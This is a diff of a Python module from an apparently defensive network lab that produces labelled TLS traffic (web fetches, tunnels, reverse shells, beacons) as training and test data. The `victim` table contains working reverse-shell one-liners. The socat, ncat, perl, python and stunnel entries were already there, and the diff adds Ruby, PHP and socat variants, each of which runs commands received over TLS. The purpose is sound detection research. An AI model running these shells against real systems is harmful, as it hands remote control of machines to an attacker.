@@ -1,23 +1,21 @@
 # SPDX-License-Identifier: LGPL-2.1-or-later
-"""What is done on port 443: web, tunnels, shells given away, beacons. `ACTIVITIES` names each with its truth.
-
-Programs of the part `test` differ from those of `train`, so that what is measured there was not learned there.
-"""
+# ruff: noqa: D401
+"""What one client does on port 443: fetch, upload, tunnel, give a shell away, report; lab/tlsplan.py says who."""
 
 from __future__ import annotations
 
 import random
+import subprocess
 import sys
 import time
-from collections.abc import Callable, Sequence
+from collections.abc import Callable
 from pathlib import Path
 
 from lab import servers, tlsserve
-from lab.crowd import Activity
 from lab.network import PASSWORD, SERVER, USER, Lab
 from lab.people import Person, program
 from lab.scenarios import SSH, TRUST
-from lab.tlsserve import DROPBEAR, INNER, INNER_WEB, PROXY, SSHD, bracketed, certificate
+from lab.tlsserve import DROPBEAR, INNER, INNER_WEB, SSHD, bracketed, certificate
 
 TALK = [sys.executable, str(Path(__file__).with_name("tlstalk.py"))]
 LINES = [
@@ -187,6 +185,50 @@ def asyncssh(lab: Lab, address: str, seed: int) -> None:
     program(lab, "/usr/bin/python3", "-c", code, str(port))
 
 
+def plink(lab: Lab, address: str, seed: int) -> None:
+    """PuTTY's plink runs a command through stunnel."""
+    port = stunnel_client(lab, address)
+    line = ["plink", "-batch", "-ssh", "-P", str(port), "-pw", PASSWORD, f"{USER}@127.0.0.1", "ls -l /usr"]
+    key_lines = program(lab, "ssh-keyscan", "-t", "ed25519", "-p", "22", SERVER)
+    hash_line = subprocess.run(
+        ["ssh-keygen", "-lf", "-"], input=key_lines, capture_output=True, text=True, timeout=20, check=True
+    ).stdout
+    program(lab, *line[:3], "-hostkey", hash_line.split()[1], *line[3:])
+
+
+def rsync(kind: str) -> Act:
+    """Copy by rsync over ssh through TLS."""
+
+    def act(lab: Lab, address: str, seed: int) -> None:
+        file = lab.folder / f"sync-{seed}"
+        file.write_bytes(random.Random(seed).randbytes(200_000))
+        script = lab.folder / f"rsh-{seed}"
+        way = [*SSH, *TRUST, "-o", f"ProxyCommand={through(kind, address)}", "-i", key(lab)]
+        script.write_text("#!/bin/sh\nexec " + " ".join(f"'{word}'" for word in way) + ' "$@"\n')
+        script.chmod(0o755)
+        program(lab, "scp", "-F", "none", "-q", "-S", str(script), str(file), f"{USER}@lab:s{seed}")
+
+    return act
+
+
+def git(lab: Lab, address: str, seed: int) -> None:
+    """Git asks for a repository that is not there, through a proxy reached by TLS (libcurl with GnuTLS)."""
+    variables = {"GIT_SSL_NO_VERIFY": "1", "GIT_PROXY_SSL_CAINFO": str(lab.folder / "tls.pem")}
+    port = stunnel_client(lab, address)
+    line = ["git", "-c", f"http.proxy=http://127.0.0.1:{port}", "ls-remote", f"https://{INNER}:{INNER_WEB}/no.git"]
+    program(lab, *line, expected=[0, 128], variables=variables)
+
+
+def requests(lab: Lab, address: str, seed: int) -> None:
+    """Python's requests fetches through a proxy that is reached by TLS."""
+    code = (
+        "import requests, sys\nrequests.packages.urllib3.disable_warnings()\ns = requests.Session()\ns.verify = False\n"
+        "s.proxies = {'https': sys.argv[1]}\n"
+        f"for p in ('', 'code.js', 'style.css'): s.get('https://{INNER}:{INNER_WEB}/' + p)\n"
+    )
+    program(lab, "/usr/bin/python3", "-c", code, f"https://{bracketed(address)}:443")
+
+
 def behind(*words: str) -> Act:
     """Run a program against the local port of stunnel, which is `@` in its words."""
 
@@ -268,8 +310,28 @@ def victim(kind: str, address: str) -> list[str]:
         "socat": ["socat", f"OPENSSL:{there},verify=0", "EXEC:/bin/bash -i,stderr"],
         "pty": ["socat", f"OPENSSL:{there},verify=0", "EXEC:bash -i,pty,stderr,setsid,sigint,sane"],
         "python": [*TALK, "shell", address, "443"],
-        "stunnel": ["sh", "-c", f"printf 'foreground=yes\\npid=\\nclient=yes\\nconnect={address}:443\\n"
-                    "exec=/bin/bash\\nexecArgs=bash -i\\n' | exec stunnel4 -fd 0"],
+        "ruby": [
+            "ruby",
+            "-rsocket",
+            "-ropenssl",
+            "-e",
+            f"s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new('{address}', 443)); "
+            "s.connect; while l = s.gets; s.print `#{l} 2>&1`; end",
+        ],
+        "php": [
+            "php",
+            "-r",
+            "$c = stream_context_create(['ssl' => ['verify_peer' => false, 'verify_peer_name' => false]]); "
+            f"$s = stream_socket_client('tls://{there}', $e, $m, 9, STREAM_CLIENT_CONNECT, $c); "
+            "while ($l = fgets($s)) fwrite($s, shell_exec(\"$l 2>&1\") ?? '');",
+        ],
+        "socat12": ["socat", f"OPENSSL:{there},verify=0,openssl-max-proto-version=TLS1.2", "EXEC:/bin/sh -i,stderr"],
+        "stunnel": [
+            "sh",
+            "-c",
+            f"printf 'foreground=yes\\npid=\\nclient=yes\\nconnect={address}:443\\n"
+            "exec=/bin/bash\\nexecArgs=bash -i\\n' | exec stunnel4 -fd 0",
+        ],
         "perl": ["ncat", "--ssl", "-c", "perl -e 'while (<STDIN>) { print STDOUT `$_ 2>&1`; $| = 1 }'", address, "443"],
         "script": ["socat", f"OPENSSL:{there},verify=0", "EXEC:script -qc sh /dev/null,stderr,setsid"],
         "pythonpty": ["ncat", "--ssl", "-c", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", address, "443"],
@@ -327,162 +389,3 @@ def to(start: Callable[..., None], port: int, more: str = "") -> Serve:
 def scripted(kind: str) -> Serve:
     """Start a server of tlstalk.py."""
     return lambda lab, address: tlsserve.scripted(lab, address, kind)
-
-
-def _many(part: str, label: str, rows: Sequence[tuple[str, Serve, Act]], **more: bool) -> list[Activity]:
-    labels = (label,) if label else ()
-    return [Activity(name, serve, act, labels, part, **more) for name, serve, act in rows]
-
-
-S, H, C, N = tlsserve.stunnel, tlsserve.haproxy, tlsserve.socat, tlsserve.ncat
-AGENT = ("-A", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36")
-TWELVE = ("--tls-max", "1.2")
-WEB = [
-    *_many("train", "", [
-        ("page-h2", nothing, curl("@/")),
-        ("page-h1", nothing, curl("--http1.1", "@/", "@/style.css")),
-        ("page-12", nothing, curl(*TWELVE, *AGENT, "@/code.js")),
-        ("objects-h2", nothing, curl(*AGENT, "-Z", "-o", "/dev/null", "@/photo.jpg", "-o", "/dev/null", "@/style.css")),
-        ("download", nothing, curl("-o", "/dev/null", "@/film.bin")),
-        ("kept-h1", nothing, pages("--http1.1", *AGENT, pause=3)),
-        ("kept-h2", nothing, pages(pause=4)),
-        ("kept-12", nothing, pages("--http1.1", *TWELVE, pause=2)),
-        ("post", nothing, curl("-d", "name=value&other=" + "x" * 300, "@/post")),
-        ("chat", scripted("chat"), talk("talk", "12", "2")),
-        ("by-hand", nothing, browse_by_hand),
-    ]),
-    *_many("test", "", [
-        ("wget", nothing, command("wget", "-q", "--no-check-certificate", "-O", "/dev/null", "https://#/code.js")),
-        ("urllib", nothing, command("/usr/bin/python3", "-c", "import ssl, urllib.request as u\n"
-            "for p in ('', 'style.css', 'photo.jpg'):\n"
-            " u.urlopen('https://#/' + p, context=ssl._create_unverified_context()).read()")),
-        ("kept-test", nothing, pages(*AGENT, "--http1.1", pause=5)),
-        ("kept-h2-test", nothing, pages(*AGENT, *TWELVE, pause=3)),
-        ("put-small", nothing, upload(20_000)),
-        ("get-12", nothing, curl("--http1.1", *TWELVE, "-o", "/dev/null", "@/film.bin")),
-        ("nghttp", nothing, command("nghttp", "-n", "--no-verify-peer", "https://#/", "https://#/code.js",
-            "https://#/style.css")),
-        ("chat-test", scripted("chat"), talk("talk", "6", "5")),
-        ("scan", nothing, command("openssl", "s_client", "-connect", "#:443")),
-    ]),
-]
-UPLOADS = [
-    *_many("train", "tls.upload", [
-        ("upload-h1", nothing, upload(3_000_000, "--http1.1")), ("upload-h2", nothing, upload(2_000_000)),
-    ]),
-    *_many("test", "tls.upload", [("upload-12", nothing, upload(4_000_000, *TWELVE, *AGENT))]),
-]
-TUNNELS = [
-    *_many("train", "tls.tunnel.ssh", [
-        ("ssh-stunnel-openssl", to(S, SSHD), ssh("openssl", "exec")),
-        ("ssh-stunnel-12", to(S, SSHD), ssh("openssl12", "exec")),
-        ("ssh-stunnel-type", to(S, SSHD), ssh("openssl", "type")),
-        ("ssh-stunnel-copy", to(S, SSHD), ssh("openssl", "copy")),
-        ("ssh-stunnel-fail", to(S, SSHD), ssh("openssl", "fail")),
-        ("ssh-stunnel-both", to(S, SSHD), ssh_stunnel),
-        ("ssh-haproxy-aes", to(H, SSHD), ssh("openssl", "exec", "-c", "aes128-ctr", "-o", "KexAlgorithms=curve25519-sha256")),
-        ("dropbear-stunnel", to(S, DROPBEAR), ssh("openssl", "exec")),
-    ]),
-    *_many("train", "tls.tunnel.ssh", [
-        ("ssh-socat", to(C, SSHD), ssh("socat", "exec")),
-        ("ssh-socat-type", to(C, SSHD), ssh("socat", "type", "-c", "aes256-gcm@openssh.com")),
-        ("ssh-socat-fail", to(C, SSHD), ssh("socat", "fail")),
-        ("ssh-ncat", to(N, SSHD), ssh("ncat", "exec", "-C")),
-        ("ssh-haproxy-12", to(H, SSHD, "ssl-max-ver TLSv1.2"), ssh("ncat", "copy", "-c", "aes128-gcm@openssh.com")),
-        ("paramiko", to(S, SSHD), paramiko_stunnel),
-        ("dropbear-socat", to(C, DROPBEAR), ssh("socat", "type")),
-        ("dbclient", to(S, SSHD), dbclient_stunnel),
-    ]),
-    *_many("test", "tls.tunnel.ssh", [
-        ("curl-sftp", to(S, SSHD), libssh2),
-        ("hydra", to(H, SSHD), hydra),
-        ("asyncssh", to(H, SSHD, "ssl-max-ver TLSv1.2"), asyncssh),
-        ("nginx-exec", to(tlsserve.stream, SSHD), ssh("openssl", "exec", "-o", "KexAlgorithms=ecdh-sha2-nistp256")),
-        ("nginx-type", to(tlsserve.stream, SSHD), ssh("ncat", "type", "-o", "Ciphers=aes256-ctr")),
-        ("nginx-fail", to(tlsserve.stream, DROPBEAR), ssh("ncat", "fail")),
-        ("dbclient-nginx", to(tlsserve.stream, DROPBEAR), dbclient_stunnel),
-        ("ssh-12-copy", to(tlsserve.stream, SSHD), ssh("openssl12", "copy", "-o", "MACs=hmac-sha2-512", "-c", "aes128-ctr")),
-    ]),
-    *_many("test", "tls.tunnel.tls", [
-        ("wget-bare", to(H, INNER_WEB), behind("wget", "-q", "--no-check-certificate", "-O", "/dev/null",
-            "https://127.0.0.1:@/code.js")),
-        ("urllib-bare", to(tlsserve.stream, INNER_WEB), behind("/usr/bin/python3", "-c",
-            "import ssl, urllib.request as u\n"
-            "u.urlopen('https://127.0.0.1:@/style.css', context=ssl._create_unverified_context()).read()")),
-        ("urllib-proxy", to(S, PROXY), behind("/usr/bin/python3", "-c", "import ssl, urllib.request as u\n"
-            "h = u.HTTPSHandler(context=ssl._create_unverified_context())\n"
-            "o = u.build_opener(u.ProxyHandler({'https': 'http://127.0.0.1:@'}), h)\n"
-            "for p in ('', 'code.js'): o.open(f'https://127.0.0.1:9443/{p}').read()")),
-        ("openssl-proxy", to(tlsserve.stream, PROXY), behind("sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | "
-            "openssl s_client -quiet -no_ign_eof -proxy 127.0.0.1:@ -connect 127.0.0.1:9443")),
-        ("curl-nginx", to(tlsserve.stream, PROXY), proxied(*AGENT, urls=3)),
-        ("curl-nginx-13", to(tlsserve.stream, PROXY), proxied("--tlsv1.3", "--http1.1", urls=1)),
-        ("gnutls-bare", to(tlsserve.stream, INNER_WEB), behind("sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | "
-            "gnutls-cli --insecure -p @ 127.0.0.1")),
-    ]),
-    *_many("train", "tls.tunnel.tls", [
-        ("curl-stunnel", to(S, PROXY), proxied()),
-        ("curl-stunnel-h1", to(S, PROXY), proxied("--http1.1", *AGENT, urls=4)),
-        ("curl-haproxy", to(H, PROXY), proxied(*AGENT)),
-        ("curl-haproxy-12", to(H, PROXY), proxied(*TWELVE, "--proxy-tlsv1", urls=1)),
-        ("curl-kept", to(S, PROXY), proxied("--http1.1", urls=3, pause=2)),
-        ("curl-front-12", to(S, PROXY, "sslVersionMax = TLSv1.2"), proxied()),
-        ("curl-inner-12", to(S, PROXY), proxied(*TWELVE)),
-        ("stunnel-bare", to(S, INNER_WEB), curl_stunnel),
-    ]),
-    *_many("train", "tls.tunnel.tls", [
-        ("squid", lambda lab, address: tlsserve.squid(lab, address), proxied("--http1.1")),
-        ("nghttpx", lambda lab, address: tlsserve.nghttpx(lab, address), proxied()),
-        ("python-socat", to(C, PROXY), nested(f"{INNER}:{INNER_WEB}")),
-        ("python-bare", to(C, INNER_WEB), nested("-")),
-        ("python-haproxy-12", to(H, PROXY, "ssl-max-ver TLSv1.2"), nested(f"{INNER}:{INNER_WEB}", 2, 1.5)),
-        ("ncat-bare", to(N, INNER_WEB), curl_stunnel),
-        ("stunnel-twice", to(S, PROXY), curl_stunnel_twice),
-    ]),
-]
-SHELLS = [
-    *_many("train", "tls.reverse_shell", [
-        ("reverse-ncat", nothing, reverse("ncat", "ncat")),
-        ("reverse-ncat-2", nothing, reverse("ncat", "ncat", 4)),
-        ("reverse-openssl", nothing, reverse("openssl", "openssl")),
-        ("reverse-ncat-openssl", nothing, reverse("ncat", "openssl", 6)),
-        ("reverse-pty", nothing, reverse("raw", "pty", 4)),
-    ]),
-    *_many("test", "tls.reverse_shell", [
-        ("reverse-stunnel", nothing, reverse("ncat", "stunnel")),
-        ("reverse-openssl-socat", nothing, reverse("openssl", "socat", 4)),
-        ("reverse-perl", nothing, reverse("ncat", "perl", 6)),
-        ("reverse-script", nothing, reverse("raw", "script", 3)),
-        ("reverse-python-ncat", nothing, reverse("ncat", "pythonpty", 5)),
-    ]),
-    *_many("train", "tls.reverse_shell", [
-        ("reverse-socat", nothing, reverse("socat", "socat")),
-        ("reverse-socat-ncat", nothing, reverse("socat", "ncat", 4)),
-        ("reverse-python", nothing, reverse("socat", "python")),
-        ("reverse-openssl-python", nothing, reverse("openssl", "python", 6)),
-        ("reverse-raw-pty", nothing, reverse("raw", "pty", 3)),
-    ]),
-]
-BEACONS = [
-    *_many("train", "tls.beacon", [
-        ("beacon-raw", scripted("beacon"), talk("call", "9", "5", "0.3", "180")),
-        ("beacon-large", scripted("beacon"), talk("call", "8", "6", "0.2", "700")),
-        ("beacon-poll", nothing, talk("poll", "9", "5", "0.4", "/post")),
-    ]),
-    *_many("test", "tls.beacon", [
-        ("beacon-script", scripted("beacon"), script_beacon),
-        ("beacon-curl", nothing, command("curl", "-sk", "--http1.1", "--rate", "12/m", "https://#/post?[1-8]")),
-        ("beacon-poll-test", nothing, talk("poll", "8", "6", "0.2", "/post")),
-    ]),
-]
-ACTIVITIES = [*WEB, *UPLOADS, *TUNNELS, *SHELLS, *BEACONS]
-
-
-def prepare(lab: Lab, plan: dict[str, Activity]) -> None:
-    """Start what several activities share: the web server, and what the tunnels lead to."""
-    certificate(lab)
-    key(lab)
-    tlsserve.inside(lab)
-    shells = {activity.name for activity in SHELLS}
-    web = [place for place, activity in plan.items() if activity.serve is nothing and activity.name not in shells]
-    tlsserve.nginx(lab, [f"{bracketed(place)}:443" for place in web])
